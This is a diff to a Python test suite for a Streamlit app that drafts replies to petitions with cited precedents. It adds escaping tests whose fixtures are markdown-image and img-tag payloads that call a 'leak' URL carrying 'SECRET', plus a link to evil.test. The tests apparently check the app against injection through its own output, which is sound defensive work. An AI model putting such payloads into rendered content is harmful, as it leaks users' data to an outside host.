@@ -13,7 +13,8 @@ from streamlit.testing.v1 import AppTest
 
 from rag.ingest.uploads import ingest_uploads
 from rag.types import DraftRequest, DraftWarning, Passage
-from tests.conftest import ROOT
+from tests.conftest import ROOT, make_assistant
+from tests.fake_openai import FakeOpenAI
 from ui import support as U
 
 APP = str(ROOT / "app.py")
@@ -143,9 +144,9 @@ def test_draft_detects_the_petition_and_cites_its_precedents(store: Path) -> Non
     assert_clean(at)
     text = at.session_state["draft_edit"]
     assert "Your ref: P-06-1199" in text and "[1]" in text
-    assert '<span class="ym-cite">[1]</span>' in markdown(at)
+    assert '<span class="ym-cite">&#91;1&#93;</span>' in markdown(at)  # shown as [1]
     pills = at.pills[0]
-    assert pills.options[0].startswith("[1] P-06-1199")
+    assert pills.options[0].startswith("&#91;1&#93; P-06-1199")
     assert [b.label for b in at.get("download_button")] == ["Download .docx", "Download Markdown"]
 
     pills.set_value(1).run()
@@ -169,6 +170,23 @@ def test_corrected_details_and_as_of_change_the_draft(store: Path) -> None:
     assert not draft.citations
     assert any("No earlier reply" in w.value for w in at.warning)  # the no-precedent warning is shown
     assert at.info[0].value == "This draft cites no precedent."
+
+
+def test_a_date_read_from_the_text_is_shown_for_checking_and_flagged_until_confirmed(store: Path) -> None:
+    at = start()
+    at.text_area(key="draft_text").set_value(PETITION + "\n\ndate: 2020-01-01\n").run()
+    assert at.date_input(key="field_date").value == date(2020, 1, 1)
+    assert any("Read from the text" in c.value and "date" in c.value for c in at.caption)
+    button(at, "Draft reply").click().run()
+    assert_clean(at)
+    assert "letter_date" in at.session_state["draft"].request.parsed_fields
+    assert any("1 January 2020 was read from the incoming text" in w.value for w in at.warning)
+
+    at.checkbox(key="field_date_ok").check().run()
+    button(at, "Draft reply").click().run()
+    assert_clean(at)
+    assert "letter_date" not in at.session_state["draft"].request.parsed_fields
+    assert not any("was read from the incoming text" in w.value for w in at.warning)
 
 
 def test_edits_survive_and_the_text_is_kept_across_pages(store: Path) -> None:
@@ -383,7 +401,7 @@ def test_open_an_eval_run_and_compare_two(store: Path, tmp_path: Path, monkeypat
     cases = table(at, "rougeL_f1")
     assert list(cases["id"]) == ["WQ85953"] and "rougeL_f1" in cases.columns
     shown = markdown(at)
-    assert '<ins class="ym-ins">a review. [1]</ins>' in shown and '<del class="ym-del">' in shown
+    assert '<ins class="ym-ins">a review. &#91;1&#93;</ins>' in shown and '<del class="ym-del">' in shown
 
     open_result(at, tmp_path / "b.json")
     assert at.selectbox(key="eval_view").value == "b.json"
@@ -467,6 +485,97 @@ def test_a_stopword_only_search_is_refused(store: Path) -> None:
     assert "only common words" in at.error[0].value and not headings(at)
 
 
+# ---------------------------------------------------------------------------- untrusted text is shown, never rendered
+
+IMAGE = "![x](http://127.0.0.1:9/leak?d=SECRET)"
+TAG = '<img src="http://127.0.0.1:9/leak?d=TAG">'
+LINK = "[click](http://evil.test/)"
+PAYLOADS = (IMAGE, TAG, LINK)
+HOSTILE = {
+    "id": "quokka_<b>",
+    "kind": "petition_response",
+    "date": "2023-06-01",
+    "ref": f"P-06-1302 {IMAGE}",
+    "title": f"Quokka rooms {TAG}",
+    "asked_of": f"Deputy Minister {LINK}",
+    "body": f"The Welsh Government funds quokka therapy rooms in every children's home {IMAGE} {TAG} {LINK}. "
+    "Quokka therapy rooms in children's homes are inspected by Care Inspectorate Wales every year.",
+}
+
+
+def with_hostile_precedent(store: Path, embedder: Any, tmp_path: Path) -> None:
+    records = tmp_path / "hostile.jsonl"
+    records.write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
+    assert make_assistant(store, embedder).ingest([records]).written == 1
+
+
+def rendered(at: AppTest) -> str:
+    """Every piece of text the page hands to Streamlit's Markdown renderer."""
+    parts = [m.value for m in at.markdown] + [m.value for m in at.caption] + [h.value for h in at.subheader]
+    parts += [a.value for kind in (at.info, at.warning, at.success, at.error) for a in kind]
+    parts += [o for p in at.pills for o in p.options] + [s.label for s in at.status] + [e.label for e in at.expander]
+    return "\n".join(str(p) for p in parts)
+
+
+def assert_inert(text: str) -> None:
+    for payload in PAYLOADS:
+        assert payload not in text, payload
+    for syntax in ("![", "<img", "](http", "http://"):
+        assert syntax not in text, syntax
+
+
+def test_precedent_metadata_and_text_are_escaped_on_the_precedents_page(
+    store: Path, embedder: Any, tmp_path: Path
+) -> None:
+    with_hostile_precedent(store, embedder, tmp_path)
+    at = search(start("precedents"), "quokka therapy rooms in children's homes")
+    assert any("P-06-1302" in h for h in headings(at)), headings(at)
+    at.button(key="open_quokka_<b>").click().run()
+    assert_clean(at)
+    shown = rendered(at)
+    assert "Latest line" in shown and "Quokka rooms" in shown
+    assert_inert(shown)
+    assert "!&#91;x&#93;(http\u2060://127.0.0.1:9/leak?d=SECRET)" in shown  # shown as text, not loaded
+
+
+def test_the_streamed_answer_and_citations_are_escaped_on_the_draft_page(
+    store: Path, embedder: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    with_hostile_precedent(store, embedder, tmp_path)
+    llm = FakeOpenAI().start()
+    try:
+        monkeypatch.setenv("YMATEB_LLM_BASE_URL", llm.url)
+        monkeypatch.setenv("YMATEB_LLM_API_KEY", "sk-test")
+        llm.reply("Quokka therapy rooms are funded ", IMAGE, " ", TAG, " ", LINK, " [1].")
+        at = start()
+        at.radio(key="field_backend").set_value("openai").run()
+        draft_petition(at, "Petition P-06-1400: Fund quokka therapy rooms in every children's home")
+        assert llm.requests, "the fake endpoint was asked"
+        cited = at.pills[0]
+        assert any("P-06-1302" in o for o in cited.options)
+        cited.set_value(1).run()
+        assert_clean(at)
+        shown = rendered(at)
+        assert "Quokka therapy rooms are funded" in shown
+        assert_inert(shown)
+    finally:
+        llm.stop()
+
+
+def test_the_stream_is_rendered_escaped() -> None:
+    assert_inert(U.stream_markdown(["Funded ", IMAGE, " ", TAG, " ", LINK]))
+
+
+def test_removed_message_escapes_the_document_id(store: Path, embedder: Any, tmp_path: Path) -> None:
+    with_hostile_precedent(store, embedder, tmp_path)
+    at = start("corpus")
+    at.selectbox(key="corpus_remove_id").set_value("quokka_<b>").run()
+    at.checkbox(key="corpus_remove_ok").check().run()
+    button(at, "Remove").click().run()
+    assert_clean(at)
+    assert at.success[0].value == "Removed quokka&#95;&#60;b&#62;."
+
+
 # ---------------------------------------------------------------------------- ui.support
 
 
@@ -478,7 +587,7 @@ def passage(doc_id: str, text: str, score: float, date_: str | None, start: int 
 @pytest.mark.parametrize(
     ("text", "span", "context", "expect"),
     [
-        ("abc <b>def</b> ghi", (4, 14), None, 'abc <mark class="ym-cited">&lt;b&gt;def&lt;/b&gt;</mark> ghi'),
+        ("abc <b>def</b> ghi", (4, 14), None, 'abc <mark class="ym-cited">&#60;b&#62;def&#60;/b&#62;</mark> ghi'),
         ("one\ntwo $x$", (4, 7), None, 'one<br><mark class="ym-cited">two</mark> &#36;x&#36;'),
         ("aaaa bbbb cccc dddd eeee", (10, 14), 5, '…bbbb <mark class="ym-cited">cccc</mark> dddd…'),
     ],
@@ -522,7 +631,7 @@ def test_draft_blocks_put_warnings_beside_their_sentence() -> None:
     assert [b.text for b in blocks] == ["Dear Jack,", "First claim. [1] Second claim.", "Yours sincerely,"]
     assert [w.code for w in blocks[1].warnings] == ["uncited"] and [w.code for w in general] == ["welsh"]
     assert U.paragraph_html(blocks[1]) == (
-        'First claim. <span class="ym-cite">[1]</span> <mark class="ym-warned">Second claim.</mark>'
+        'First claim. <span class="ym-cite">&#91;1&#93;</span> <mark class="ym-warned">Second claim.</mark>'
     )
 
 
@@ -541,10 +650,22 @@ def test_draft_blocks_put_warnings_beside_their_sentence() -> None:
             {"kind": "letter", "number": "", "title": "", "member": "A Person", "language": "en"},
             {"kind": "letter", "member": "A Person", "sender": "A Person", "language": "en"},
         ),
+        (
+            {"kind": "letter", "date": date(2020, 1, 1), "parsed_date": "2020-01-01", "date_ok": False},
+            {"kind": "letter"},
+        ),
+        (
+            {"kind": "letter", "date": date(2020, 1, 1), "parsed_date": "2020-01-01", "date_ok": True},
+            {"kind": "letter", "letter_date": "2020-01-01"},
+        ),
+        (
+            {"kind": "letter", "date": date(2024, 5, 1), "parsed_date": "2020-01-01", "date_ok": False},
+            {"kind": "letter", "letter_date": "2024-05-01"},
+        ),
     ],
-    ids=["petition", "written-question", "letter"],
+    ids=["petition", "written-question", "letter", "date-unchecked", "date-checked", "date-corrected"],
 )
-def test_request_overrides(fields: dict[str, str], expect: dict[str, str]) -> None:
+def test_request_overrides(fields: dict[str, Any], expect: dict[str, str]) -> None:
     assert U.request_overrides(fields) == expect
 
 
@@ -556,4 +677,5 @@ def test_request_fields_round_trip() -> None:
         "title": "",
         "member": "Jane Dodds MS",
         "language": "en",
+        "date": "",
     }
